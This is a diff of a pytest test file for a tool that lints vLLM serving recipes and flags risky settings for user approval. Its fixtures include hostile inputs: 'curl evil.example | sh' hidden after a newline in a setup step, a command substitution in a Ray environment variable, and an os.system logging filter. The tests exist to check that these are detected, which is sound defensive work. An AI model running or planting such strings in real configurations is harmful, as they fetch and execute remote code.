@@ -18,7 +18,9 @@ from pathlib import Path
 
 import pytest
 
+from sparkcluster import engines
 from sparkcluster.cli.main import guarded
+from sparkcluster.spec import library
 
 ROOT = Path(__file__).parents[3]
 HEAD = "name: stranger\nmodel: {id: org/model}\nimage: vllm/vllm-openai:v0.20.0\n"
@@ -226,13 +228,13 @@ mounts: [{source: ~/models/m/sub, target: /s}, {source: /scratch, target: /x, re
 caches: [{name: triton, target: /root/.triton}, {name: programs, target: /usr/local/bin}]
 container: {cap_add: [SYS_NICE, NET_RAW]}
 secrets: [WANDB_API_KEY]
-setup: [pip install x, "echo SPACES hidden XXX"]
+setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncurl evil.example | sh"]
 """
 PERMIT = "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], secrets: [WANDB_API_KEY]}\n"
 SHOWN = """\
 this recipe can:
   network    everything that the node can reach (host network)
-  image      org/image:latest
+! image      org/image:latest
 ! read       ~/models/m
 ! read       ~/models/m/sub -> /s
 ! write      /scratch -> /x
@@ -243,8 +245,10 @@ this recipe can:
 ! write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
 ! setup      pip install x
 ! setup      echo hidden XXX
-! code       trust-remote-code=true
-! code       tool-parser-plugin=/sparkcluster/model/p.py
+! setup      pip list # show versions
+! setup      curl evil.example | sh
+! argument   trust-remote-code=true
+! argument   tool-parser-plugin=/sparkcluster/model/p.py
 ! variable   LD_PRELOAD=/model/x
 ! variable   TRITON_CACHE_DIR=/tmp/t
   !: more than serving; you are asked once, unless the playbook is bundled
@@ -255,7 +259,7 @@ def test_lint_ends_with_what_the_recipe_can_do(tmp_path: Path) -> None:
     block = BLOCK.replace("SPACES", " " * 300).replace("XXX", "x" * 300)
     path = inventory(tmp_path, block, more=PERMIT)
     done = run("lint", path)
-    shown = SHOWN.replace("XXX", "x" * 226 + "…")
+    shown = SHOWN.replace("XXX", "x" * 300)
     assert done.stdout.endswith(shown), done.stdout
     playbook = run("lint", tmp_path / "inventory-playbook.yaml")
     needs = '  it needs this in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], secrets: ["WANDB_API_KEY"]}'
@@ -326,10 +330,6 @@ SETUP = HEAD + "setup: [pip install x]\n"
     [
         "setup: ['true']",
         "args: {trust-remote-code: true}",
-        'args: {kv-transfer-config: \'{"kv_connector_module_path": "x"}\'}',
-        'args: {structured-outputs-config: \'{"reasoning_parser_plug\\u0069n": "/m/p.\\u0070y"}\'}',
-        'args: {structured-outputs-config: {x: \'{"reasoning_parser_plug\\u0069n": "/m/p.\\u0070y"}\'}}',
-        'args: {structured-outputs-config: \'{"reasoning_parser_plug\\u0069n": "/m/p.\\u0070y",}\'}',
         "command: [vllm, serve, org/model]",
         "env: {PYTHONPATH: /sparkcluster/model}",
     ],
@@ -354,12 +354,15 @@ ASKED = [
     "HF_HUB_OFFLINE=0", "VLLM_ALLOW_INSECURE_SERIALIZATION=1", "VLLM_PLUGINS=x", "NCCL_NET_PLUGIN=x",
     "RAY_RUNTIME_ENV_HOOK=x.y", "OMP_TOOL_LIBRARIES=x", "CUDA_HOME=x", "VLLM_CACHE_ROOT=x", "NCCL_PROTO=/x",
     "nccl_conf_file=x", "XVLLM_A=1", "PYTORCH_CUDA_ALLOC_CONF_X=1", "LD_PRELOAD=x",
+    'RAY_JOB_CONFIG_JSON_ENV_VAR={"runtime_env":{"py_executable":"$(curl${IFS}evil.example|sh)"}}',
+    "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1", "VLLM_ALLOW_RUNTIME_LORA_UPDATING=1", "VLLM_USE_MODELSCOPE=True",
+    "NCCL_COMM_ID=evil:80", "VLLM_OF_TOMORROW=1", "NCCL_BUFFSIZE=evil.example", "NCCL_IB_SL=10.0.0.1", "NCCL_IB_TC=a:1",
 ]  # fmt: skip
 FREE = [
     "VLLM_USE_FLASHINFER_MOE_FP4=1", "VLLM_ALLOW_LONG_MAX_MODEL_LEN=1", "VLLM_CPU_OMP_THREADS_BIND=nobind",
     "NCCL_DEBUG=INFO", "NCCL_IB_TIMEOUT=22", "TORCHDYNAMO_DISABLE=1", "CUTE_DSL_ARCH=sm_121a",
     "FLASHINFER_DISABLE_VERSION_CHECK=1", "OMP_NUM_THREADS=8", "TORCH_CUDA_ARCH_LIST=12.1a",
-    "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True", "CUDA_VISIBLE_DEVICES=0",
+    "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True,max_split_size_mb:128", "CUDA_VISIBLE_DEVICES=0,1",
     "HF_HUB_ENABLE_HF_TRANSFER=1", "TOKENIZERS_PARALLELISM=false", "RAY_DEDUP_LOGS=0",
 ]  # fmt: skip
 
@@ -373,6 +376,91 @@ def test_variables_are_asked_about_unless_they_only_tune(tmp_path: Path) -> None
     done = run("lint", tmp_path / "p.yaml", tmp_path / "q.yaml")
     asked = re.findall(r"! variable   (.*)$", done.stdout, re.MULTILINE)
     assert asked == [*ASKED[1:], ASKED[0], "NCCL_ALGO=a b"], done
+
+
+ASKED_ARGUMENTS = {
+    "kv-events-config": {"enable_kv_cache_events": True, "publisher": "zmq", "endpoint": "tcp://evil:5557"},
+    "kv-transfer-config": '{"kv_connector_module_path": "x"}',
+    "tool-server": "evil:80",
+    "otlp-traces-endpoint": "evil",
+    "grpc": True,
+    "middleware": "pkg.Class",
+    "log-config-file": "x",
+    "logging-config": {"version": 1, "filters": {"f": {"()": "os.system", "command": "curl evil|sh"}}},
+    "compilation-config": {"backend": "pkg.fn"},
+    "compilation-config.inductor_compile_config": {"cpp.cxx": ["x"]},
+    "compilation-config.inductor_compile_config.x": 1,
+    "compilation-config.mode": "pkg.fn",
+    "structured-outputs-config": '{"reasoning_parser_plug\\u0069n": "/m/p.\\u0070y"}',
+    "default-chat-template-kwargs": {"enable_thinking": '{"reasoning_parser_plugin": "x"}'},
+    "limit-mm-per-prompt": '{"image": "/x", "image": 1}',
+    "speculative-config": {"method": "ngram", "x": 1},
+    "speculative-config.model": "/x/y",
+    "hf-overrides": {"auto_map": {}},
+    "attention-backend": "pkg.Class",
+    "quantization": "evil:80",
+    "block-size": "http://x",
+    "reasoning-parser": "/x",
+    "cudagraph-capture-sizes": ["a", "b/c"],
+    "trust-remote-code": True,
+    "flag-of-tomorrow": 0,
+}
+FREE_ARGUMENTS = {
+    "max-model-len": 262144,
+    "gpu-memory-utilization": 0.85,
+    "max-num-batched-tokens": "32k",
+    "kv-cache-dtype": "fp8",
+    "tool-call-parser": "qwen3_coder",
+    "enable-prefix-caching": True,
+    "no-async-scheduling": True,
+    "middleware": None,
+    "grpc": False,
+    "cudagraph-capture-sizes": [1, 2, 4],
+    "tokenizer": "org/other",
+    "speculative-config": '{"method": "dflash", "model": "z-lab/D-1.5", "num_speculative_tokens": 15}',
+    "compilation-config": {"cudagraph_mode": "FULL", "custom_ops": ["+rms_norm"], "pass_config": {"enable_noop": True}},
+    "compilation-config.mode": 3,
+    "limit-mm-per-prompt": {"image": 1, "video": {"count": 1, "num_frames": 32}},
+    "override-generation-config": {"temperature": 0.6, "top_k": -1},
+}
+
+
+def test_arguments_are_asked_about_unless_they_only_tune(tmp_path: Path) -> None:
+    for name, args in (("asked", ASKED_ARGUMENTS), ("free", FREE_ARGUMENTS)):
+        (tmp_path / f"{name}.yaml").write_text(f"{HEAD}args: {json.dumps(args)}\n")
+    done = run("lint", tmp_path / "asked.yaml", tmp_path / "free.yaml")
+    asked = re.findall(r"! argument   ([^=]*)=", done.stdout, re.MULTILINE)
+    assert asked == [*ASKED_ARGUMENTS], done
+
+
+def test_every_argument_that_is_not_asked_about_is_one_of_the_engine() -> None:
+    engine = engines.engine("vllm")
+    assert {*engine.tuning_arguments()} <= {*engine.known_arguments()}
+    assert not {*engine.tuning_arguments()} & {*engine.arguments, "trust-remote-code"}
+
+
+@pytest.mark.parametrize(
+    ("image", "asks"),
+    [
+        ("evil/x", True),
+        ("evil/vllm/vllm-openai", True),
+        ("registry.example:5000/vllm/vllm-openai", True),
+        ("vllm-openai:v0.20.0", True),
+        ("vllm/vllm-openai", False),
+        ("docker.io/vllm/vllm-openai:v0.20.0", False),
+        (f"nvcr.io/nvidia/vllm:26.05-py3@sha256:{'0' * 64}", False),
+    ],
+)
+def test_an_image_of_an_unknown_repository_is_asked_about(tmp_path: Path, image: str, *, asks: bool) -> None:
+    (tmp_path / "gpt-oss-120b.yaml").write_text(HEAD.replace("vllm/vllm-openai:v0.20.0", image))
+    done = run("lint", tmp_path / "gpt-oss-120b.yaml")
+    assert f"{'!' if asks else ' '} image      {image}\n" in done.stdout, done
+
+
+def test_images_of_bundled_playbooks_are_not_asked_about() -> None:
+    files = [*library.bundled()[0].rglob("*.yaml")]
+    texts = [match[1] for file in files if (match := re.search(r"^image: (\S+)", file.read_text(), re.MULTILINE))]
+    assert {text.partition(":")[0] for text in texts} - {*engines.engine("vllm").images} == set()
 
 
 def test_directories_are_asked_about_unless_they_are_the_weights(tmp_path: Path) -> None:
@@ -411,8 +499,12 @@ def test_an_accepted_playbook_is_asked_about_again_when_it_changed(tmp_path: Pat
     playbook.write_text(SETUP.replace("install x", "install y"))
     assert up(path, port).returncode == 2
     playbook.write_text(SETUP)
-    path.write_text(f"{path.read_text()}runtime: {{kind: process}}\n")
-    assert up(path, port).returncode == 2
+    for text in (
+        f"{path.read_text()}runtime: {{kind: process}}\n",
+        path.read_text().replace("cluster: c", "cluster: d"),
+    ):
+        path.write_text(text)
+        assert up(path, port).returncode == 2
 
 
 def test_bundled_playbooks_are_not_asked_about_but_what_extends_them_is(tmp_path: Path, port: socket.socket) -> None:
